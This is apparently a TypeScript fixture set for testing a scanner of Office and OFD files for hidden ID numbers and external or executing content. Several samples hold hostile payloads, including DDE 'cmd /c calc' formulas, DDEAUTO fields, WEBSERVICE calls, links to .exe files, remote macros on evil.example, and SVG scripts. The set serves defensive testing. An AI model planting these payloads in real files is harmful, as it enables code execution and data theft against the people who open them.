/** Office files that say, fetch or run something where no reader looks: attributes, properties, caches, formulas, SVG, VML. */
import { type CraftedSet, maker } from './kinds.ts';
import { bookOf, ofdOf, wordOf } from './office.ts';

const docx = maker('docx');
const xlsx = maker('xlsx');
const ofd = maker('ofd');

/** Made up, with the right check digit. */
const ID = '110101199003070011';
const VND = 'application/vnd.openxmlformats-officedocument';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const SVG = 'xmlns="http://www.w3.org/2000/svg"';

/** A file with one more part of a type that is usual. */
const wordWith = (relation: string, path: string, type: string, part: string | Uint8Array) =>
  wordOf({
    relations: [[relation, path]],
    overrides: { [`word/${path}`]: `${VND}.${type}` },
    more: { [`word/${path}`]: part },
  });
const bookWith = (relation: string, path: string, type: string, part: string) =>
  bookOf({
    relations: [[relation, path]],
    overrides: { [`xl/${path}`]: `${VND}.${type}+xml` },
    more: { [`xl/${path}`]: part },
  });
const settings = (inside: string) =>
  wordWith(
    'settings',
    'settings.xml',
    'wordprocessingml.settings+xml',
    `<w:settings ${W}>${inside}</w:settings>`,
  );
const comments = (inside: string) =>
  wordWith(
    'comments',
    'comments.xml',
    'wordprocessingml.comments+xml',
    `<w:comments ${W}>${inside}</w:comments>`,
  );
const vml = (part: string | Uint8Array) => wordWith('vmlDrawing', 'a.vml', 'vmlDrawing', part);
const svg = (part: string | Uint8Array) =>
  wordOf({
    relations: [['image', 'media/a.svg']],
    defaults: { svg: 'image/svg+xml' },
    more: { 'word/media/a.svg': part },
  });
const property = (inside: string) =>
  wordOf({
    root: [['extended-properties', 'docProps/app.xml']],
    overrides: { 'docProps/app.xml': `${VND}.extended-properties+xml` },
    more: { 'docProps/app.xml': `<Properties>${inside}</Properties>` },
  });
const core = (inside: string) =>
  wordOf({
    root: [
      [
        'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
        'docProps/core.xml',
      ],
    ],
    overrides: {
      'docProps/core.xml': 'application/vnd.openxmlformats-package.core-properties+xml',
    },
    more: { 'docProps/core.xml': `<cp:coreProperties>${inside}</cp:coreProperties>` },
  });
const relations = (list: string) =>
  wordOf({
    more: {
      'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:z="z">${list}</Relationships>`,
    },
  });
const row = (cells: string) =>
  bookOf({ inside: `<sheetData><row r="1">${cells}</row></sheetData>` });
const formula = (text: string) =>
  row(`<c r="A1"><f>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f><v>1</v></c>`);
const sheet = (inside: string) => bookOf({ inside: `<sheetData/>${inside}` });
const workbook = (inside: string) =>
  bookOf({
    more: {
      'xl/workbook.xml': `<workbook ${S}><sheets><sheet name="a" sheetId="1"/></sheets>${inside}</workbook>`,
    },
  });
const field = (instruction: string) =>
  wordOf({ inside: `<w:p><w:fldSimple w:instr="${instruction}"/></w:p>` });
const boxes = (signs: string) =>
  wordOf({
    inside: `<w:tbl><w:tr>${signs
      .split('')
      .map((sign) => `<w:tc><w:p><w:r><w:t>${sign}</w:t></w:r></w:p></w:tc>`)
      .join('')}</w:tr></w:tbl>`,
  });

const numbers: CraftedSet = {
  '身份证号码：Excel 公式算出的字': xlsx('hostile', () =>
    row(`<c r="A1" t="str"><f>A2</f><v>${ID}</v></c>`),
  ),
  '身份证号码：Excel 数值': xlsx('hostile', () => row(`<c r="A1"><v>${ID}</v></c>`)),
  '身份证号码：Excel 公式里的字': xlsx('hostile', () => formula(`"${ID}"`)),
  '身份证号码：Excel 一格一位': xlsx('hostile', () =>
    row(
      ID.split('')
        .map((digit) => `<c><v>${digit}</v></c>`)
        .join(''),
    ),
  ),
  '身份证号码：Excel 页眉': xlsx('hostile', () =>
    sheet(`<headerFooter><oddHeader>&amp;C${ID}</oddHeader></headerFooter>`),
  ),
  '身份证号码：Excel 输入提示': xlsx('hostile', () =>
    sheet(`<dataValidations><dataValidation prompt="${ID}" sqref="A1"/></dataValidations>`),
  ),
  '身份证号码：Excel 表名': xlsx('hostile', () =>
    bookOf({
      more: {
        'xl/workbook.xml': `<workbook ${S}><sheets><sheet name="${ID}" sheetId="1"/></sheets></workbook>`,
      },
    }),
  ),
  '身份证号码：Excel 透视表的缓存': xlsx('hostile', () =>
    bookWith(
      'pivotCacheRecords',
      'a.xml',
      'spreadsheetml.pivotCacheRecords',
      `<pivotCacheRecords ${S}><r><s v="${ID}"/></r></pivotCacheRecords>`,
    ),
  ),
  '身份证号码：Word 一格一位': docx('hostile', () => boxes(ID)),
  '身份证号码：Word 图片的替代文字': docx('hostile', () =>
    wordOf({ inside: `<w:p><w:r><w:drawing><wp:docPr descr="${ID}"/></w:drawing></w:r></w:p>` }),
  ),
  '身份证号码：Word 标题属性': docx('hostile', () => core(`<dc:title>${ID}</dc:title>`)),
  '身份证号码：Word 单位属性': docx('hostile', () => property(`<Company>${ID}</Company>`)),
  '身份证号码：Word 文档变量': docx('hostile', () =>
    settings(`<w:docVars><w:docVar w:name="a" w:val="${ID}"/></w:docVars>`),
  ),
  '身份证号码：Word 链接': docx('hostile', () =>
    relations(
      `<Relationship Id="a" Type="${REL}/hyperlink" Target="https://a.example/${ID}" TargetMode="External"/>`,
    ),
  ),
  '身份证号码：Word 图表': docx('hostile', () =>
    wordWith('chart', 'charts/a.xml', 'drawingml.chart+xml', `<c:chart><c:v>${ID}</c:v></c:chart>`),
  ),
  '身份证号码：Word 的 VML': docx('hostile', () => vml(`<xml><v:shape alt="${ID}"/></xml>`)),
  '身份证号码：OFD 的标题': ofd('hostile', () => ofdOf({}, '', `<ofd:Title>${ID}</ofd:Title>`)),
  'Word：批注的作者': docx('telling', () => comments('<w:comment w:author="张三"/>')),
  'Word：修订的作者': docx('telling', () =>
    wordOf({ inside: '<w:p><w:ins w:author="张三"><w:r><w:t>a</w:t></w:r></w:ins></w:p>' }),
  ),
  'Word：属性里的经理': docx('telling', () => property('<Manager>张三</Manager>')),
  'Word：去掉了姓名的批注': docx('innocent', () => comments('<w:comment w:author="作者"/>')),
  'Word：一格一位的别的编号': docx('innocent', () => boxes('201506010001234567')),
};

const formulas: CraftedSet = {
  '公式：有效性的第二个': xlsx('hostile', () =>
    sheet(
      '<dataValidations><dataValidation><formula1>1</formula1><formula2>WEBSERVICE(A1)</formula2></dataValidation></dataValidations>',
    ),
  ),
  '公式：条件格式': xlsx('hostile', () =>
    sheet(
      '<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>',
    ),
  ),
  '公式：表格的列': xlsx('hostile', () =>
    bookWith(
      'table',
      'a.xml',
      'spreadsheetml.table',
      `<table ${S}><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></table>`,
    ),
  ),
  '公式：图表的数据在别的文件里': xlsx('hostile', () =>
    bookWith(
      'chart',
      'charts/a.xml',
      'drawingml.chart',
      "<c:chart><c:f>'http://evil.example/[a.xlsx]S'!A1</c:f></c:chart>",
    ),
  ),
  '公式：链接到程序': xlsx('hostile', () => formula('HYPERLINK("file:///c:/a.exe","x")')),
  '公式：链接到共享文件夹': xlsx('hostile', () =>
    formula(String.raw`HYPERLINK("\\evil.example\a.exe")`),
  ),
  '公式：拼出来的链接': xlsx('hostile', () => formula('HYPERLINK(""&"file:///c:/a.exe")')),
  '公式：链接整个取自别的单元格': xlsx('hostile', () => formula('HYPERLINK(C2,"看")')),
  '公式：别的工作簿的名字': xlsx('hostile', () => formula("'[a.xlsx]Sheet1'!A1")),
  '公式：图表的数据在同一个文件夹的工作簿里': xlsx('hostile', () =>
    bookWith(
      'chart',
      'charts/a.xml',
      'drawingml.chart',
      "<c:chart><c:f>'[a.xlsx]Sheet1'!$A$1:$A$3</c:f></c:chart>",
    ),
  ),
  '公式：DDE 函数': xlsx('hostile', () => formula('DDE("cmd";"/c calc";"a")')),
  '公式：引号里的 DDE 链接': xlsx('hostile', () => formula("'cmd|/c calc'!A1")),
  '公式：共享文件夹里的工作簿': xlsx('hostile', () =>
    formula(String.raw`'\\evil.example\[a.xlsx]S'!A1`),
  ),
  '公式：别的工作簿的编号': xlsx('hostile', () => formula('[1]Sheet1!A1')),
  '公式：INDIRECT 写别的文件': xlsx('hostile', () =>
    formula('INDIRECT("\'file:///c:/a.ods\'#$S.A1")'),
  ),
  '公式：多维数据集、PY': xlsx('hostile', () => formula('CUBEVALUE("a","b")+_xlws.PY(0,1)')),
  '公式：不认识的函数': xlsx('hostile', () => formula('SENDMAIL(A1)')),
  '公式：过长': xlsx('hostile', () => formula(`A1${'+A1'.repeat(20_000)}`)),
  '公式：引号不成对': xlsx('hostile', () => formula('"a&WEBSERVICE(A1)')),
  '公式：按钮的宏在别的文件里': docx('hostile', () =>
    vml("<xml><x:FmlaMacro>'\\\\evil.example\\a.xlsm'!m</x:FmlaMacro></xml>"),
  ),
  '公式：形状的宏在别的文件里': xlsx('hostile', () =>
    bookWith('drawing', 'a.xml', 'drawing', '<xdr:sp macro="\'\\\\evil\\a.xlsm\'!m"/>'),
  ),
  '公式：引用别的表、本簿的名称、表格的列': xlsx('innocent', () =>
    formula('SUM(\'1月 (汇总)\'!A1:B2)+[0]!合计+表1[[#This Row],[金额]]+COUNTIF(表1[单位],"*局*")'),
  ),
  '公式：网页、本簿里的链接': xlsx('innocent', () =>
    formula('HYPERLINK("#\'"&A1&"\'!A1","看")&HYPERLINK("https://www.example.gov.cn/"&B1)'),
  ),
  '公式：新的函数、单元格图片': xlsx('innocent', () =>
    formula(
      '_xlfn.LET(_xlpm.a,A1,_xlfn.TEXTJOIN(",",TRUE,_xlfn._xlws.FILTER(A1:A9,B1:B9<>"")))&_xlfn.DISPIMG("ID_1",1)',
    ),
  ),
  '公式：下拉名单': xlsx('innocent', () =>
    sheet(
      '<dataValidations><dataValidation type="list"><formula1>INDIRECT($A1)</formula1></dataValidation></dataValidations>',
    ),
  ),
  '公式：本簿的打印区域': xlsx('innocent', () =>
    workbook(
      '<definedNames><definedName name="_xlnm.Print_Area">\'a\'!$A$1:$B$2</definedName></definedNames>',
    ),
  ),
  'Word：数学公式不是表格的公式': docx('innocent', () =>
    wordOf({
      inside:
        '<m:oMath><m:f><m:num><m:r><m:t>|sin(x)|</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath>',
    }),
  ),
};

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const reaching: CraftedSet = {
  'Word：邮件合并的数据来源': docx('hostile', () =>
    settings('<w:mailMerge><w:connectString w:val="Data Source=a"/></w:mailMerge>'),
  ),
  'Word：邮件合并的主文档': docx('innocent', () =>
    settings('<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>'),
  ),
  'Word：链接没有引号': docx('hostile', () => field('HYPERLINK c:\\\\windows\\\\a.exe')),
  'Word：链接用弯引号': docx('hostile', () => field('HYPERLINK “file:///c:/a.exe”')),
  'Word：链接写在开关后面': docx('hostile', () =>
    field('HYPERLINK \\l a &quot;file:///c:/a.exe&quot;'),
  ),
  'Word：带提示和窗口的链接': docx('innocent', () =>
    field(
      'HYPERLINK &quot;https://www.example.gov.cn&quot; \\l &quot;a&quot; \\o &quot;看 网页&quot; \\t &quot;_blank&quot; \\h',
    ),
  ),
  'Word：属性名带别的前缀，盖住真的': docx('hostile', () =>
    relations(
      `<Relationship z:TargetMode="Internal" z:Type="${REL}/hyperlink" z:Target="https://a.example/" Id="a" Type="${REL}/image" Target="http://evil.example/a.png" TargetMode="External"/>`,
    ),
  ),
  'Word：关系藏在别的元素里': docx('hostile', () =>
    relations(
      `<z:a><Relationship Id="a" Type="${REL}/image" Target="http://evil.example/a.png" TargetMode="External"/></z:a>`,
    ),
  ),
  'Word：没有写明在外面的网址': docx('hostile', () =>
    relations(`<Relationship Id="a" Type="${REL}/image" Target="http://evil.example/a.png"/>`),
  ),
  'Word：写法不对的 TargetMode': docx('hostile', () =>
    relations(`<Relationship Id="a" Type="${REL}/image" Target="a.png" TargetMode=" External "/>`),
  ),
  'Word：域的属性写两个前缀': docx('hostile', () =>
    wordOf({ inside: '<w:p><w:fldSimple z:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>' }),
  ),
  'Word：形状链接到程序': docx('hostile', () =>
    wordOf({ inside: '<w:p><w:pict><v:shape href="file:///c:/a.exe"/></w:pict></w:p>' }),
  ),
  'Word：线条的图从网上取': docx('hostile', () =>
    wordOf({ inside: '<w:p><w:pict><v:stroke src="http://evil.example/a"/></w:pict></w:p>' }),
  ),
  'Word：VML 的网址写成编号': docx('hostile', () =>
    vml('<xml><v:imagedata src="&#104;ttp://evil.example/a.png"/></xml>'),
  ),
  'Word：UTF-16 的 VML': docx('hostile', () =>
    vml(utf16('<xml><v:imagedata src="http://evil.example/a.png"/></xml>')),
  ),
  'SVG：带前缀的脚本': docx('hostile', () =>
    svg('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'),
  ),
  'SVG：打开时的脚本': docx('hostile', () => svg(`<svg ${SVG} onload="alert(1)"/>`)),
  'SVG：网址写成编号': docx('hostile', () =>
    svg(`<svg ${SVG}><image href="&#104;ttps://evil.example/a.png"/></svg>`),
  ),
  'SVG：填充从网上取': docx('hostile', () =>
    svg(`<svg ${SVG}><rect style="fill:url(http://evil.example/a)"/></svg>`),
  ),
  'SVG：样式从网上取': docx('hostile', () =>
    svg(`<svg ${SVG}><style>@import "http://evil.example/a.css";</style></svg>`),
  ),
  'SVG：样式里的字写成转义': docx('hostile', () =>
    svg(`<svg ${SVG}><style>a{fill:\\75rl(http://evil.example/a)}</style></svg>`),
  ),
  'SVG：本机文件、共享文件夹': docx('hostile', () =>
    svg(`<svg ${SVG}><image href="file:///c:/a"/><image href="\\\\evil.example\\a"/></svg>`),
  ),
  'SVG：UTF-16 的脚本': docx('hostile', () => svg(utf16(`<svg ${SVG}><script>1</script></svg>`))),
  'SVG：图片其实是网页': docx('hostile', () =>
    svg('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'),
  ),
  'SVG：Office 的图标': docx('innocent', () =>
    svg(
      `<svg viewBox="0 0 96 96" ${SVG} xmlns:xlink="http://www.w3.org/1999/xlink"><style>.MsftOfcThm_Accent1_Fill { fill:#4472C4; }</style><defs><clipPath id="a"><rect/></clipPath></defs><g clip-path="url(#a)"><path class="MsftOfcThm_Accent1_Fill" d="M110101 199003 L07 0011"/><use xlink:href="#a"/></g></svg>`,
    ),
  ),
  'OFD：链接的基址是共享文件夹': ofd('hostile', () =>
    ofdOf(
      {},
      '<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="a.exe" Base="file://evil.example/"/></ofd:Action></ofd:Actions>',
    ),
  ),
};

export const hidden: CraftedSet = { ...numbers, ...formulas, ...reaching };
